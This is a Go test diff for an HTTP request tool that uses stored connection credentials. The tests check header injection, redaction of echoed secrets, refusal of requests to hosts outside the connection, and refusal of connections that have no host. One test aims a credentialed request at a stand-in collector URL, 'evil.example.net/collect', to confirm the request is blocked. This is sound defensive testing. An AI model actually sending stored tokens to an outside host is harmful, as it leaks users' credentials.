@@ -2,9 +2,14 @@ package tools
 
 import (
 	"context"
+	"fmt"
 	"net/http"
 	"net/http/httptest"
+	"net/url"
+	"strings"
 	"testing"
+
+	"github.com/soochol/upal/internal/upal"
 )
 
 func TestHTTPRequestTool_GET(t *testing.T) {
@@ -89,3 +94,88 @@ func TestHTTPRequestTool_MissingURL(t *testing.T) {
 		t.Error("expected error for missing URL")
 	}
 }
+
+type stubConnections map[string]*upal.Connection
+
+func (s stubConnections) Resolve(_ context.Context, id string) (*upal.Connection, error) {
+	if c, ok := s[id]; ok {
+		return c, nil
+	}
+	return nil, fmt.Errorf("connection not found: %s", id)
+}
+
+func TestHTTPRequestTool_ConnectionHeaders(t *testing.T) {
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if got := r.Header.Get("Authorization"); got != "Bearer s3cret" {
+			t.Errorf("Authorization = %q, want bearer token from connection", got)
+		}
+		if got := r.Header.Get("X-Api-Key"); got != "key-123" {
+			t.Errorf("X-Api-Key = %q, want key-123", got)
+		}
+		// Echo the credentials back, as a misbehaving API might.
+		w.Header().Set("X-Echo", r.Header.Get("X-Api-Key"))
+		w.Write([]byte("auth=" + r.Header.Get("Authorization")))
+	}))
+	defer srv.Close()
+
+	u, _ := url.Parse(srv.URL)
+	tool := &HTTPRequestTool{}
+	tool.SetConnectionResolver(stubConnections{"conn-1": {
+		ID:     "conn-1",
+		Type:   upal.ConnTypeHTTP,
+		Host:   u.Hostname(),
+		Token:  "s3cret",
+		Extras: map[string]any{"headers": map[string]any{"X-Api-Key": "key-123"}},
+	}})
+	result, err := tool.Execute(context.Background(), map[string]any{
+		"method":        "GET",
+		"url":           srv.URL,
+		"connection_id": "conn-1",
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	out := fmt.Sprintf("%v", result)
+	for _, secret := range []string{"s3cret", "key-123"} {
+		if strings.Contains(out, secret) {
+			t.Errorf("tool output exposes %q: %s", secret, out)
+		}
+	}
+	if body := result.(map[string]any)["body"]; body != "auth=[redacted]" {
+		t.Errorf("body = %q, want redacted credentials", body)
+	}
+}
+
+func TestHTTPRequestTool_ConnectionHostRestricted(t *testing.T) {
+	tool := &HTTPRequestTool{}
+	tool.SetConnectionResolver(stubConnections{"conn-1": {ID: "conn-1", Host: "api.example.com", Token: "s3cret"}})
+	_, err := tool.Execute(context.Background(), map[string]any{
+		"method":        "GET",
+		"url":           "http://evil.example.net/collect",
+		"connection_id": "conn-1",
+	})
+	if err == nil {
+		t.Fatal("expected error for request outside the connection host")
+	}
+}
+
+func TestHTTPRequestTool_ConnectionWithoutHostRefused(t *testing.T) {
+	var called bool
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { called = true }))
+	defer srv.Close()
+
+	tool := &HTTPRequestTool{}
+	tool.SetConnectionResolver(stubConnections{"conn-1": {ID: "conn-1", Token: "s3cret"}})
+	_, err := tool.Execute(context.Background(), map[string]any{
+		"method":        "GET",
+		"url":           srv.URL,
+		"connection_id": "conn-1",
+	})
+	if err == nil || !strings.Contains(err.Error(), "no host") {
+		t.Fatalf("err = %v, want a missing host error", err)
+	}
+	if called {
+		t.Error("request was sent with credentials of a connection without a host")
+	}
+}